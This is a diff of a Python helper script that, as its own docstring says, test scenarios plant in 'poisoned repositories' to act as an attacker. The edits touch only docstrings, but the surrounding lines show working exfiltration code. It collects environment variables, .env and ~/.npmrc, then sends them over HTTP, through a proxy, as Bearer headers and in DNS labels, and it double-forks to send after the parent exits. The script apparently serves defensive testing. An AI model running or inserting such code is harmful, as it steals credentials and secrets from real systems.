@@ -1,7 +1,8 @@
-"""What the attackers run inside: standard library only, read as text and written into the poisoned repositories.
+"""The program of the attackers inside: standard library only.
 
-`python3 .cache/helper.py WAY [ARGUMENT...]` takes what it can find and sends it away; it says `tried WAY` and what came
-of it.
+The scenarios write its text into the poisoned repositories.
+
+`python3 .cache/helper.py WAY [ARGUMENT...]` collects data and sends it away. It prints `tried WAY` and the result.
 """
 
 from __future__ import annotations
@@ -24,7 +25,7 @@ SECONDS = 20.0
 
 
 def loot() -> str:
-    """Variables, code, and what the memory of processes has."""
+    """Collect variables, code, and the memory of processes."""
     found = dict(os.environ)
     for pattern in ("/workspace/app/src/*", "/workspace/app/.env", os.path.expanduser("~/.npmrc")):
         for path in glob.glob(pattern):
@@ -59,7 +60,7 @@ def ask(url: str, data: bytes | None, *, headers: dict[str, str], proxy: bool = 
 
 
 def web(url: str) -> list[str]:
-    """Straight and by the proxy; plain, and as base64."""
+    """Send it directly and through the proxy, plain and as base64."""
     data = loot().encode()
     return [
         ask(url, base64.b64encode(data) if encoded else data, headers={}, proxy=proxy)
@@ -69,7 +70,7 @@ def web(url: str) -> list[str]:
 
 
 def header(url: str) -> list[str]:
-    """Each variable as the credential of a request to somebody else."""
+    """Send each variable as the credential of a request to another host."""
     return [
         ask(url, None, headers={"Authorization": f"Bearer {value}"}, method="GET")
         for name, value in sorted(os.environ.items())
@@ -109,7 +110,7 @@ def udp(host: str, *ports: str) -> list[str]:
 
 
 def dns(zone: str) -> list[str]:
-    """In the labels of names: to the resolver, and straight to a server of one's own."""
+    """Send it in the labels of names, through the resolver and directly to a server."""
     wanted = [v for k, v in os.environ.items() if "TOKEN" in k or "KEY" in k]
     wanted += [word for word in read("/workspace/app/src/pricing.py").split('"') if word.startswith("cnry")]
     said: list[str] = []
@@ -129,7 +130,7 @@ def dns(zone: str) -> list[str]:
 
 
 def later(url: str, fifo: str) -> list[str]:
-    """When whoever started it has gone."""
+    """Send it after the parent process has ended."""
     if os.fork() == 0:
         os.setsid()
         if os.fork() == 0:
